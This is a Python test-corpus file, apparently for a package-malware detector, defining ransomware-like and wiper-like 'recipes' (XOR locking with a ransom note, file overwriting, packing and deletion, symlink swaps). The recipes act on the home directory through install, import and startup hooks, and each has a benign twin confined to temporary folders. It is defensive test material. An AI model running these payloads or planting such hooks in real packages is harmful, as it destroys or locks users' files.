"""T30: changes many files (MITRE ATT&CK T1486, T1485, T1491).

Known from node-ipc (files overwritten with a heart), from the wiping branch of the TeamPCP worms and
from "ransom" packages that append an ending and leave a note. Here ordinary files of the box are
renamed, packed or masked with one constant byte, which can be undone; what is deleted, the recipe made
itself. The twins do as much to files of their own in a temporary folder, or only look.
"""

from __future__ import annotations

from models.phase import Phase
from tests.corpus.guard import acting
from tests.corpus.recipe import Channel, Encoding, Kind, Recipe
from tests.corpus.recipes.blind.layouts import (
    IN_CI,
    MAIN,
    back_end,
    command,
    hook,
    package,
    setup,
    submodule,
)

OWN = """
import tempfile

def _made(folder, count=30, ending=".txt"):
    folder.mkdir(parents=True, exist_ok=True)
    for number in range(count):
        (folder / f"report-{number:02}{ending}").write_text(f"reenact report {number}\\n" * 20)
    return sorted(folder.glob("report-*" + ending))
"""

LOCK = (
    OWN
    + """
NOTE = "Your files are locked. This is a reenact marker; undo with xor 90.\\n"

def _lock(path):
    data = path.read_bytes()
    path.write_bytes(bytes(byte ^ 90 for byte in data))
    path.rename(path.with_name(path.name + ".locked"))
"""
)
LOCK_ALL = """
files = _made(HOME / "Documents" / "reports")
files += [*(HOME / "Documents").glob("*.*"), *(HOME / "Pictures").glob("*.jpg")]
for path in files[:80]:
    try:
        if not path.name.endswith(".locked"):
            _lock(path)
    except OSError:
        continue
for folder in ("Desktop", "Documents"):
    if (HOME / folder).is_dir():
        (HOME / folder / "READ_ME_NOW.txt").write_text(NOTE)
"""
LOCK_OWN = """
with tempfile.TemporaryDirectory() as folder:
    for path in _made(pathlib.Path(folder)):
        _lock(path)
    pathlib.Path(folder, "READ_ME_NOW.txt").write_text(NOTE)
"""

SHELL = """
import tempfile

LINE = 'find "$0" -type f ! -name "*.enc" -exec sh -c \\'mv "$1" "$1.enc"; : > "$1"\\' _ {} \\\\;'

def _run(folder):
    try:
        subprocess.run(["sh", "-c", LINE, str(folder)], timeout=15, stderr=subprocess.DEVNULL)
    except (OSError, subprocess.SubprocessError):
        pass
"""
SHELL_ALL = """
folder = HOME / "Documents" / "minutes"
folder.mkdir(parents=True, exist_ok=True)
for number in range(30):
    (folder / f"{number}.csv").write_text("a,b\\n1,2\\n")
for name in ("Documents", "Pictures", "Downloads"):
    _run(HOME / name)
"""
SHELL_OWN = """
with tempfile.TemporaryDirectory() as folder:
    for number in range(30):
        pathlib.Path(folder, f"{number}.csv").write_text("a,b\\n1,2\\n")
    _run(folder)
"""

PACK = (
    OWN
    + """
import zipfile

def _pack(files, target):
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for path in files:
            archive.write(path, path.name)
    for path in files:
        path.unlink()
"""
)
PACK_ALL = """
folder = HOME / "Documents" / "letters"
if folder.exists() and not list(folder.glob("*.txt")):
    return
_pack(_made(folder, 40), folder.parent / "letters.vault")
(HOME / "Pictures").mkdir(exist_ok=True)
for number, path in enumerate(sorted((HOME / "Pictures").glob("*.jpg"))):
    os.replace(path, path.with_name(f".{number}.vault"))
"""
PACK_OWN = """
with tempfile.TemporaryDirectory() as folder:
    _pack(_made(pathlib.Path(folder)), pathlib.Path(folder, "letters.zip"))
"""

HEART = """
import base64, mmap

def _walk(top):
    for entry in os.scandir(top):
        if entry.is_dir(follow_symlinks=False):
            yield from _walk(entry.path)
        elif entry.is_file(follow_symlinks=False):
            yield entry.path

def _encode(path):
    with open(path, "r+b") as file:
        if os.fstat(file.fileno()).st_size == 0:
            return
        with mmap.mmap(file.fileno(), 0, access=mmap.ACCESS_READ) as view:
            text = base64.b64encode(view[:1 << 20])
        file.seek(0)
        file.write(text)
        file.truncate()
"""
HEART_ALL = """
mine = HOME / "Documents" / "notes"
mine.mkdir(parents=True, exist_ok=True)
for number in range(30):
    (mine / f"note{number}.md").write_text("a note\\n")
for top in (HOME / "Documents", HOME / "Desktop", HOME / "Music"):
    if top.is_dir():
        for path in _walk(top):
            try:
                _encode(path)
            except (OSError, ValueError):
                continue
"""
HEART_COUNTS = """
total = sum(os.stat(path).st_size for path in _walk(os.path.dirname(__file__)))
print(base64.b64encode(str(total).encode()).decode(), mmap.PAGESIZE, callable(_encode))
"""

INFECT = """
import gzip, tempfile

LINE = "\\n# reenact marker\\n"

def _project(folder):
    folder.mkdir(parents=True, exist_ok=True)
    for number in range(32):
        path = folder / f"module_{number:02}.py"
        if not path.exists():
            path.write_text(f"NUMBER = {number}\\n")

def _append(folder):
    for path in folder.rglob("*.py"):
        with path.open("a") as file:
            file.write(LINE)
"""
INFECT_ALL = """
_project(HOME / "project" / "src" / "app")
_append(HOME / "project")
for path in sorted((HOME / "Documents").glob("*.txt")):
    path.with_name(path.name + ".gz").write_bytes(gzip.compress(path.read_bytes()))
    path.write_text(LINE)
"""
INFECT_OWN = """
with tempfile.TemporaryDirectory() as folder:
    _project(pathlib.Path(folder, "app"))
    _append(pathlib.Path(folder))
    return len(gzip.compress(LINE.encode()))
"""

WIPE = (
    OWN
    + """
import shutil, threading

def _wipe(path):
    size = path.stat().st_size
    with path.open("r+b", buffering=0) as file:
        for fill in (b"\\xff", b"\\0"):
            file.seek(0)
            file.write(fill * size)
    path.rename(path.with_name(path.stem[::-1] + ".~"))

def _all(files):
    crew = [threading.Thread(target=_wipe, args=(path,)) for path in files]
    for one in crew:
        one.start()
    for one in crew:
        one.join()
"""
)
WIPE_ALL = """
for name in ("Documents", "Pictures", "Downloads"):
    folder = HOME / name / "archive"
    _all(_made(folder, 25, ".dat"))
    try:
        subprocess.run(["find", str(folder), "-name", "*.~", "-delete"], timeout=10)
    except (OSError, subprocess.SubprocessError):
        shutil.rmtree(folder, ignore_errors=True)
"""
WIPE_OWN = """
folder = pathlib.Path(tempfile.mkdtemp())
_all(_made(folder, 25, ".dat"))
shutil.rmtree(folder, ignore_errors=True)
return subprocess.list2cmdline(["find", str(folder), "-name", "*.~", "-delete"])
"""

SWAP = """
import tarfile, tempfile

def _move(files, vault):
    vault.mkdir(parents=True, exist_ok=True)
    for number, path in enumerate(files):
        target = vault / f"{number:04}"
        os.rename(path, target)
        os.symlink(target, path)
        os.chmod(target, 0)

def _filled(folder):
    folder.mkdir(parents=True, exist_ok=True)
    for number in range(40):
        (folder / f"page-{number}.html").write_text("<p>page</p>")
    return sorted(folder.iterdir())
"""
SWAP_ALL = """
files = _filled(HOME / "Downloads" / "site")
files += [path for path in sorted((HOME / "Documents").glob("*")) if path.is_file() and not path.is_symlink()]
_move(files, HOME / ".cache" / "vault")
"""
SWAP_OWN = """
with tempfile.TemporaryDirectory() as folder:
    files = _filled(pathlib.Path(folder, "site"))
    _move(files, pathlib.Path(folder, "vault"))
    return tarfile.is_tarfile(__file__)
"""
SWAP_CLASS = """
class Store:
    def open(self, name="default"):
        if ACT:
            return THE_ACT(name)
"""

NATIVE = """
import ctypes, tempfile

def _rename(paths, ending):
    libc = ctypes.CDLL(None, use_errno=True)
    for path in paths:
        turned = os.fsencode(str(path.with_name(path.name[::-1] + ending)))
        libc.rename(os.fsencode(str(path)), turned)

def _sheets(folder):
    folder.mkdir(parents=True, exist_ok=True)
    for number in range(35):
        with open(folder / f"sheet-{number}.xlsx", "wb") as file:
            file.write(b"reenact sheet")
    return sorted(folder.glob("sheet-*.xlsx"))
"""
NATIVE_ALL = """
files = _sheets(HOME / "Documents" / "sheets")
for name in ("Documents", "Pictures", "Music", "Desktop"):
    files += [path for path in sorted((HOME / name).glob("*")) if path.is_file()]
_rename([path for path in files if path.suffix != ".crypt"][:90], ".crypt")
"""
NATIVE_OWN = """
with tempfile.TemporaryDirectory() as folder:
    _rename(_sheets(pathlib.Path(folder)), ".crypt")
"""

RECIPES = (
    Recipe(
        technique="T30",
        name="xor-locked",
        phase=Phase.IMPORT,
        channel=Channel.NONE,
        encoding=Encoding.XOR,
        files=package(acting(LOCK_ALL, LOCK_OWN, head=LOCK)),
        twin_does="does so with thirty files of its own in a temporary folder",
    ),
    Recipe(
        technique="T30",
        name="find-move",
        phase=Phase.INSTALL,
        channel=Channel.PROCESS,
        encoding=Encoding.NONE,
        kind=Kind.SDIST,
        files=setup(SHELL_ALL, SHELL_OWN, SHELL),
        twin_does="moves files of its own in a temporary folder",
    ),
    Recipe(
        technique="T30",
        name="vault-zip",
        phase=Phase.START,
        channel=Channel.NONE,
        encoding=Encoding.ARCHIVE,
        files=hook(acting(PACK_ALL, PACK_OWN, head=PACK)),
        twin_does="packs temporary files of its own",
    ),
    Recipe(
        technique="T30",
        name="in-place-base64",
        phase=Phase.USE,
        channel=Channel.NONE,
        encoding=Encoding.BASE64,
        files=command(acting(HEART_ALL, HEART_COUNTS, MAIN, HEART)),
        twin_does="adds up the sizes of its own files",
    ),
    Recipe(
        technique="T30",
        name="line-in-sources",
        phase=Phase.IMPORT,
        channel=Channel.NONE,
        encoding=Encoding.GZIP,
        files=submodule("format", acting(INFECT_ALL, INFECT_OWN, head=INFECT)),
        twin_does="appends a line to sources that it made in a temporary folder",
    ),
    Recipe(
        technique="T30",
        name="wipe-own",
        phase=Phase.WAIT,
        channel=Channel.PROCESS,
        encoding=Encoding.PLAIN,
        files=package(acting(WIPE_ALL, WIPE_OWN, IN_CI, WIPE)),
        twin_does="wipes temporary files of its own",
    ),
    Recipe(
        technique="T30",
        name="link-swap",
        phase=Phase.USE,
        channel=Channel.NONE,
        encoding=Encoding.NONE,
        files=package(acting(SWAP_ALL, SWAP_OWN, SWAP_CLASS, SWAP)),
        twin_does="does so in a temporary folder, when used",
    ),
    Recipe(
        technique="T30",
        name="back-end-lock",
        phase=Phase.INSTALL,
        channel=Channel.NONE,
        encoding=Encoding.XOR,
        kind=Kind.SDIST,
        files=back_end(LOCK_ALL, LOCK_OWN, LOCK),
        twin_does="does so with thirty files of its own while the wheel is made",
    ),
    Recipe(
        technique="T30",
        name="libc-rename",
        phase=Phase.IMPORT,
        channel=Channel.MEMORY,
        encoding=Encoding.REVERSED,
        files=submodule("sheets", acting(NATIVE_ALL, NATIVE_OWN, head=NATIVE)),
        twin_does="renames temporary files of its own",
    ),
)
